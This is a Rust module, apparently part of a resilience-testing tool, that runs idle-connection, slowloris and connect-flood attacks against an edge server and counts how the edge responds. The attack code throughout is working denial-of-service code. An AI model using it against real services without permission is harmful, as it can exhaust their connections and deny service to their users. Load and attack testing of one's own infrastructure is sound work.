//! Attacks on the connection itself, below HTTP: connections held idle,
//! slowloris (a request head trickled a byte at a time) and a flood of
//! connections opened and closed as fast as possible, on top of enough
//! held ones to fill the edge's cap. A held connection the edge closes is
//! counted and opened again, as a real attacker would.

use std::net::SocketAddr;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::sync::Semaphore;
use tokio::task::JoinSet;

use super::attack::{Counters, Stop};

/// Connects in flight at once: 10,000 SYNs at the same instant overflow
/// the accept backlog and turn into 1 s retransmits, which measures the
/// kernel rather than the edge.
const CONNECTS_IN_FLIGHT: usize = 256;
/// The slowloris request: a valid head, never finished.
const SLOW_HEAD: &[u8] = b"GET /api/aliases/health HTTP/1.1\r\nHost: edge\r\n";
const SLOW_FILL: &[u8] = b"X-Slow: a\r\n";

/// How a held connection behaves.
#[derive(Debug, Clone, Copy)]
enum Hold {
    /// Says nothing.
    Idle,
    /// Sends one byte every `every`, starting after `phase`.
    Slow { every: Duration, phase: Duration },
}

/// `n` idle connections, held until `stop`.
pub async fn idle(addr: SocketAddr, n: usize, stop: Stop, counters: Arc<Counters>) {
    hold_all(addr, n, stop, counters, |_| Hold::Idle).await;
}

/// `n` slowloris connections, their bytes spread evenly over `every`.
pub async fn slowloris(
    addr: SocketAddr,
    n: usize,
    every: Duration,
    stop: Stop,
    counters: Arc<Counters>,
) {
    hold_all(addr, n, stop, counters, |i| Hold::Slow {
        every,
        phase: every.mul_f64(i as f64 / n.max(1) as f64),
    })
    .await;
}

/// `hold` idle connections plus `tasks` loops of connect-and-close.
pub async fn flood(
    addr: SocketAddr,
    hold: usize,
    tasks: usize,
    stop: Stop,
    counters: Arc<Counters>,
) {
    let held = hold_all(addr, hold, stop.clone(), counters.clone(), |_| Hold::Idle);
    let mut churn = JoinSet::new();
    for _ in 0..tasks.max(1) {
        churn.spawn(open_close(addr, stop.clone(), counters.clone()));
    }
    let churned = async { while churn.join_next().await.is_some() {} };
    tokio::join!(held, churned);
}

async fn hold_all(
    addr: SocketAddr,
    n: usize,
    stop: Stop,
    counters: Arc<Counters>,
    how: impl Fn(usize) -> Hold,
) {
    let gate = Arc::new(Semaphore::new(CONNECTS_IN_FLIGHT));
    let mut tasks = JoinSet::new();
    for i in 0..n {
        let (stop, counters, gate) = (stop.clone(), counters.clone(), gate.clone());
        tasks.spawn(held(addr, how(i), stop, counters, gate));
    }
    while tasks.join_next().await.is_some() {}
}

async fn held(
    addr: SocketAddr,
    how: Hold,
    mut stop: Stop,
    counters: Arc<Counters>,
    gate: Arc<Semaphore>,
) {
    while !stop.stopped() {
        let connected = {
            let _permit = gate.acquire().await;
            tokio::select! {
                c = TcpStream::connect(addr) => c,
                () = stop.wait() => return,
            }
        };
        let Ok(mut stream) = connected else {
            Counters::add(&counters.connect_failures, 1);
            if !stop.sleep(Duration::from_millis(50)).await {
                return;
            }
            continue;
        };
        Counters::add(&counters.connections_opened, 1);
        counters.hold();
        let closed = match how {
            Hold::Idle => until_closed(&mut stream, &mut stop).await,
            Hold::Slow { every, phase } => {
                trickle(&mut stream, every, phase, &mut stop, &counters).await
            }
        };
        counters.release();
        if !closed {
            return;
        }
        Counters::add(&counters.closed_by_edge, 1);
    }
}

/// Waits for the edge to close (true) or for stop (false).
async fn until_closed(stream: &mut TcpStream, stop: &mut Stop) -> bool {
    let mut buf = [0u8; 512];
    tokio::select! {
        // Data would be an error page; EOF or a reset is a close. Either
        // way the edge has given up on this connection.
        _ = stream.read(&mut buf) => true,
        () = stop.wait() => false,
    }
}

/// Sends the slow head a byte at a time; true when the edge closed.
async fn trickle(
    stream: &mut TcpStream,
    every: Duration,
    phase: Duration,
    stop: &mut Stop,
    counters: &Counters,
) -> bool {
    let (mut rd, mut wr) = stream.split();
    let mut buf = [0u8; 512];
    let bytes = SLOW_HEAD.iter().chain(SLOW_FILL.iter().cycle());
    let mut wait = phase;
    for &byte in bytes {
        tokio::select! {
            _ = rd.read(&mut buf) => return true,
            () = stop.wait() => return false,
            () = tokio::time::sleep(wait) => {
                if wr.write_all(&[byte]).await.is_err() {
                    return true;
                }
                counters.sent(1, 1);
            }
        }
        wait = every;
    }
    false
}

/// Opens and closes connections as fast as it can. Closing with a zero
/// linger sends a reset instead of a FIN, so no TIME_WAIT is left behind
/// to run the generator out of ports.
async fn open_close(addr: SocketAddr, mut stop: Stop, counters: Arc<Counters>) {
    while !stop.stopped() {
        let socket = if addr.is_ipv4() { TcpSocket::new_v4() } else { TcpSocket::new_v6() };
        let Ok(socket) = socket else {
            Counters::add(&counters.connect_failures, 1);
            if !stop.sleep(Duration::from_millis(10)).await {
                return;
            }
            continue;
        };
        let _ = socket.set_zero_linger();
        match socket.connect(addr).await {
            Ok(stream) => {
                Counters::add(&counters.connections_opened, 1);
                counters.sent(1, 0);
                drop(stream);
            }
            Err(_) => Counters::add(&counters.connect_failures, 1),
        }
        tokio::task::yield_now().await;
    }
}
